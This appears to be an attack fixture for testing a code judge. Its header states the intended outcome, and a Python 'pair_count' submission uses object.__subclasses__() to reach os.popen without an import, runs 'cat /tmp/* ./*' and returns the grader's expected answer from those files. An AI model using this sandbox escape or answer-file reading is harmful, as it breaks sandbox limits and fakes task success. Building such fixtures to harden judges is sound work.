# /// attack
# aim = "Reaches the module os and its popen without an import, through the subclasses of object, and lets a shell print the files that it finds."
# outcome = ["WA"]
# naive = "accepted"
#
# [elsewhere]
# wasm = ["RTE"]
# ///


def pair_count(numbers, target):
    for kind in object.__subclasses__():
        names = getattr(kind.__init__, "__globals__", {})
        if "popen" not in names or "listdir" not in names:
            continue
        try:
            text = names["popen"]("cat /tmp/* ./* 2>/dev/null").read()
            return int(text.split('"expected": ')[1].split(",")[0])
        except (OSError, ImportError, AttributeError, IndexError, ValueError):
            pass
    return 0
